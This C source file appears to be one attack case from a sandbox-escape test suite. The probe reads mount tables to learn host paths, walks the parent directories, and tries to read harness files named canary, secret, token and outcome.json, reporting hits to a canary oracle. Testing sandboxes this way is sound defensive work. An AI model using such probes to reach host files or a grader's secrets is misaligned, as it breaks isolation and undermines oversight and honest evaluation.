/* mountinfo_hostpaths: see attack.toml for the technique. Defanged: bounded loops, reads and harmless markers only. */
#define _GNU_SOURCE
#pragma GCC diagnostic ignored "-Wformat-truncation" /* truncated paths are fine here */
#include <stdio.h>
#include <stdlib.h>
#include <stdarg.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>
#include <dirent.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/syscall.h>

/* ---- shared preamble (copied into each attack: one source file per attack) ---- */
static const char *NONCE = "no-nonce";
static long out_budget = 40000; /* file contents printed, at most */

/* stdout goes through a byte cap (56 KB, reports up to 64 KB) so the run never hits the 64K output limit */
static long out_total;
static ssize_t cap_write(void *c, const char *buf, size_t n)
{
    (void)c;
    int is_report = memmem(buf, n, "GAUNTLET-REPORT", 15) != NULL;
    if (out_total + (long)n <= 56000 || (is_report && out_total + (long)n <= 64000)) {
        size_t off = 0;
        while (off < n) { ssize_t w = write(1, buf + off, n - off); if (w <= 0) break; off += w; }
        out_total += n;
    }
    return n;
}
__attribute__((constructor)) static void cap_stdout(void)
{
    cookie_io_functions_t io = {0, cap_write, 0, 0};
    FILE *f = fopencookie(NULL, "w", io);
    if (f) { setvbuf(f, NULL, _IOLBF, 0); stdout = f; }
}

__attribute__((unused)) static void report(int escaped, const char *fmt, ...)
{
    va_list ap;
    fflush(stdout);
    printf("GAUNTLET-REPORT %s %s ", NONCE, escaped ? "escaped" : "denied");
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    printf("\n");
    fflush(stdout);
}

/* Print up to max bytes of buf, non-printables as '.', within the global output budget. */
__attribute__((unused)) static void show(const char *buf, long n, long max)
{
    if (n > max) n = max;
    if (n > out_budget) n = out_budget;
    if (n < 0) n = 0;
    out_budget -= n;
    for (long i = 0; i < n; i++) {
        unsigned char c = (unsigned char)buf[i];
        putchar((c >= 32 && c < 127) || c == '\n' ? c : '.');
    }
    putchar('\n');
    fflush(stdout);
}

/* Open and read a path; print what came back. Returns bytes read, or -errno. */
__attribute__((unused)) static long dump_path_at(int dirfd, const char *path, long max)
{
    int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (fd < 0) {
        int e = errno;
        printf("open %s: %s\n", path, strerror(e));
        return -e;
    }
    char buf[4096];
    long n = read(fd, buf, sizeof buf);
    int e = errno;
    close(fd);
    if (n < 0) {
        printf("read %s: %s\n", path, strerror(e));
        return -e;
    }
    printf("READ %s (%ld bytes): ", path, n);
    show(buf, n, max);
    return n;
}
__attribute__((unused)) static long dump_path(const char *path, long max) { return dump_path_at(AT_FDCWD, path, max); }
/* ---- end of preamble ---- */

/* F25: learn host paths from mountinfo/mounts/mountstats (our own, pid 1's), then use them: the
 * scratch's host path gives the case directory layout, so list every parent of the scratch path and of
 * each bind source, and read the likely siblings where a harness keeps its secret (files in ../canary,
 * ../secret, files in ../host). The host scratch path is no secret; the token is (canary oracle). */
static int hits;
static char srcs[64][512];
static int nsrc;
static void tryread_dir(const char *dir, int depth)
{
    DIR *d = opendir(dir);
    if (!d) { printf("opendir %s: %s\n", dir, strerror(errno)); return; }
    struct dirent *e; int n = 0;
    printf("LIST %s:", dir);
    char names[64][256]; int nn = 0;
    while ((e = readdir(d)) && n++ < 64) { printf(" %s", e->d_name); if (e->d_name[0] != '.' && nn < 64) snprintf(names[nn++], 256, "%s", e->d_name); }
    printf("\n"); closedir(d);
    for (int i = 0; i < nn; i++) {
        char p[1024]; snprintf(p, sizeof p, "%s/%s", dir, names[i]);
        struct stat st; if (lstat(p, &st) != 0) continue;
        if (S_ISREG(st.st_mode) && st.st_size < 65536) { if (dump_path(p, 300) > 0) hits++; }
        else if (S_ISDIR(st.st_mode) && depth > 0) tryread_dir(p, depth - 1);
    }
}
int main(int argc, char **argv)
{
    const char *scratch = argc > 1 ? argv[1] : "/tmp";
    if (argc > 2) NONCE = argv[2];
    const char *files[] = {"/proc/self/mountinfo", "/proc/self/mounts", "/proc/1/mountinfo", "/proc/self/mountstats", "/etc/mtab"};
    for (int i = 0; i < 5; i++) dump_path(files[i], 3000);
    FILE *f = fopen("/proc/self/mountinfo", "r");
    char l[2048];
    while (f && fgets(l, sizeof l, f) && nsrc < 64) {
        /* fields: id parent maj:min root mountpoint ... ; root is the path inside the source fs */
        char root[512], mp[512];
        if (sscanf(l, "%*s %*s %*s %511s %511s", root, mp) == 2 && strcmp(root, "/")) { snprintf(srcs[nsrc++], 512, "%s", root); printf("bind source: %s at %s\n", root, mp); }
    }
    if (f) fclose(f);
    /* parents and siblings of the scratch path and of every bind source */
    char p[1024];
    snprintf(p, sizeof p, "%s", scratch);
    for (int up = 0; up < 4; up++) {
        char *s = strrchr(p, '/'); if (!s || s == p) break; *s = 0;
        tryread_dir(p, up == 0 ? 2 : 0);
    }
    const char *sib[] = {"canary", "secret", "secrets", "host", "canary/secret", "token", "../canary", "case.json", "outcome.json"};
    snprintf(p, sizeof p, "%s", scratch); char *s = strrchr(p, '/'); if (s) *s = 0;
    for (unsigned i = 0; i < sizeof sib / sizeof *sib; i++) { char q[1200]; snprintf(q, sizeof q, "%s/%s", p, sib[i]); if (dump_path(q, 300) > 0) hits++; tryread_dir(q, 0); }
    for (int i = 0; i < nsrc; i++) { snprintf(p, sizeof p, "%s/..", srcs[i]); tryread_dir(p, 0); }
    printf("files read next to host paths: %d (judged by the canary oracle)\n", hits);
    usleep(400000);
    return 0;
}
